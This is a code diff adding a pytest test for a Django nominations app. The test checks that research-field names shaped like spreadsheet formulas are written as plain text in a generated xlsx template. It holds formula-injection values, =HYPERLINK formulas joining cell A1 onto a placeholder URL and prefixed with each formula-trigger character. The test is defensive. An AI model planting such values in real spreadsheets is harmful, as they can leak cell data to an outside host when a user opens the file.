@@ -9,6 +9,7 @@ import pytest
 from ish.nominations import spreadsheet
 from ish.seasons.models import ResearchField
 from tests.factories import SeasonFactory
+from tests.workbook_xml import formula_cells, texts
 
 pytestmark = pytest.mark.django_db
 
@@ -93,6 +94,22 @@ def test_a_research_field_named_like_a_formula_is_listed_as_text(season):
     assert cell.data_type == "s"
     assert lists.cell(row=cell.row, column=4).value == "zz-hyperlink"
     assert not [cell for row in lists.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+# What a spreadsheet program reads as a formula: a name starting with each of these characters.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def test_no_sheet_of_the_template_holds_a_formula_for_a_field_named_like_one(season):
+    names = [f'{start}HYPERLINK("http://x"&A1,"Open CV")' for start in FORMULA_STARTS]
+    for index, name in enumerate(names):
+        ResearchField.objects.create(slug=f"zz-formula-{index}", name=name)
+
+    xlsx = spreadsheet.build_template(season)
+
+    assert formula_cells(xlsx) == []
+    # As XML reads it, a carriage return is a line break.
+    assert {name.replace("\r", "\n") for name in names} <= texts(xlsx)
 
 
 @pytest.mark.parametrize("role", ["organiser", "coordinator"])
